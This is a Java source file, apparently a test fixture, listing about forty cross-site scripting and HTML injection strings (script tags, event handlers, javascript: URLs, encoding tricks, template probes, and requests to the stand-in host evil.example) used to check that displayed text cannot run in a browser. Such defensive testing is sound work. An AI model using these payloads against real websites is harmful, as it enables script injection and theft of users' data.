package dev.fettle.web;

import java.util.List;

/** Texts that try to run something in the browser of whoever reads them. What they would run shows: a dialog, a mark on the window, a request, or a report of the policy. */
final class Hostile {
    static final List<String> TEXTS = List.of(
            "<script>alert(1);window.ran=1</script>",
            "<img src=x onerror=\"alert(1);window.ran=1\">",
            "<svg/onload=\"alert(1);window.ran=1\">",
            "\"><script>alert(1);window.ran=1</script>",
            "'><img src=//evil.example/x onerror=alert(1)>",
            "\" onfocus=\"alert(1)\" autofocus tabindex=\"1",
            "' onmouseover='alert(1)' style='position:fixed;inset:0'",
            "javascript:alert(1)",
            "JaVaScRiPt&colon;alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "</title><script>alert(1);window.ran=1</script>",
            "</pre></article><iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
            "</option></select><img src=x onerror=alert(1)>",
            "</svg><style>*{background:url(//evil.example/y)}</style>",
            "<style>@import '//evil.example/z';</style>",
            "<link rel=stylesheet href=//evil.example/s.css>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
            "<form action=//evil.example/><button autofocus>go</button></form>",
            "<a href=\"javascript:alert(1)\" id=main>x</a>",
            "<details open ontoggle=alert(1)>x</details>",
            "<video><source onerror=alert(1)></video>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<!--><script>alert(1)</script-->",
            "${7*7}{{7*7}}<%= 7*7 %>#{7*7}@if(true)x@endif",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\u003cscript\u003ealert(1)\u003c/script\u003e",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
            "<ſcript>alert(1)</ſcript>",
            "<input onfocus=alert(1) autofocus>",
            "<body onpageshow=alert(1)>",
            "\u202e<script>alert(1)</script>\u202c",
            "x\" data-live=\"//evil.example/live\" class=\"live",
            "<p id=live data-live=//evil.example/live></p><p id=main data-live=//evil.example/live></p>",
            "]]><script>alert(1)</script>",
            "`-alert(1)-`';alert(1);//",
            "<img src=x:x onerror=window.onerror=eval;throw'=alert\\u00281\\u0029'>",
            "<iframe src=\"javascript:parent.ran=1\"></iframe>");

    private Hostile() {}
}
